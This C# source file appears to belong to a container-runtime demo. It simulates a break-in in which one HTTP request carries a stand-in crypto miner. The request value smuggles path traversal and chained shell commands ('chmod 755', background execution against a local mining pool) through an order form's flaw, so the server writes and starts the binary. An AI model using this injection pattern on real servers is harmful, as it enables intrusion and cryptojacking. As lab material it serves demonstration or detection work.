using Runtime.Pods;

namespace Runtime.Demo;

/// <summary>One HTTP request from outside: it brings the stand-in miner as its body and, through the flaw of the order form, has the web server write and start it.</summary>
internal static class BreakIn
{
    /// <summary>Where the request puts the miner: in the container's own layer, in no image.</summary>
    public const string Dropped = "/tmp/.cache-update";

    public static async Task SendAsync(ContainerdNode node, Uri shop, byte[] miner, CancellationToken cancellationToken)
    {
        var number = $"../..{Dropped}; chmod 755 {Dropped}; {Dropped} -o stratum+tcp://127.0.0.1:{Shop.PoolPort} -u stand-in </dev/null >/dev/null 2>&1 &";
        using var client = node.CreateHttpClient();
        using var body = new ByteArrayContent(miner);
        using var answer = await client.PostAsync(new Uri(shop, "/cgi-bin/order?number=" + Uri.EscapeDataString(number)), body, cancellationToken);
        answer.EnsureSuccessStatusCode();
    }
}
